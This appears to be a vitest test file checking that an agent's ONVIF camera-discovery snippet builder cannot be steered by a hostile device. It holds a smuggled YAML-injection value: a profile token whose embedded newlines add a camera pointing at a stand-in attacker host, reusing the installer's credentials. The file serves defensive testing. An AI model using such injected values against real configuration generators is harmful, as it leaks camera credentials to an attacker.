import { describe, expect, it } from 'vitest';
import { parseConfigText } from '../../../../agent/config/load.js';
import { parseDeviceReading } from '../../../../agent/field/discovery/onvif/responses.js';
import { buildSnippet } from '../../../../agent/field/discovery/snippet.js';
import type { DeviceReport } from '../../../../agent/field/discovery/types.js';

const WRAP = 'host: {id: test-host}\nmqtt: {url: "mqtt://127.0.0.1:1883"}\n';
const LOGIN = { username: 'admin', password: { passwordEnv: 'CAM_PASSWORD' } };
/** A profile token that ends the YAML comment and adds a camera pointing at the attacker, with the installer's login. */
const HOSTILE = 'main\n  - id: evil\n    rtsp: { url: "rtsp://203.0.113.9/steal", username: admin, passwordEnv: CAM_PASSWORD }\n#';

function report(token: string): DeviceReport {
  return {
    device: { address: '10.0.0.11', endpoint: 'urn:uuid:x', serviceUrl: 'http://10.0.0.11/onvif/device_service', name: 'Gate\u2028  - id: evil2' },
    profiles: [{ token, notes: [`stream URI refused: bad\r\n  - id: evil3`], rtsp: 'rtsp://10.0.0.11:554/main' }],
  };
}

describe('discover output cannot be steered by a hostile device', () => {
  it('keeps a newline in a profile token, name or note inside its comment', () => {
    const snippet = buildSnippet([report(HOSTILE)], LOGIN);
    const config = parseConfigText(WRAP + snippet.text, 'snippet.yaml');
    expect(config.cameras.map((c) => c.rtsp?.url)).toEqual(['rtsp://10.0.0.11:554/main']);
    expect(snippet.text).not.toContain('203.0.113.9/steal\n');
    for (const line of snippet.text.split('\n').slice(1)) expect(line).toMatch(/^ {2}(#|- | {2})|^$/);
  });

  it('filters the token as the library hands it over', () => {
    const [profile] = parseDeviceReading({ profiles: [{ $: { token: HOSTILE }, name: 'Main' }], uris: [{ token: HOSTILE, stream: { uri: 'rtsp://10.0.0.11:554/main' } }] });
    expect(profile?.token).not.toMatch(/[\n\r]/);
    expect(profile?.rtsp).toBe('rtsp://10.0.0.11:554/main');
  });
});
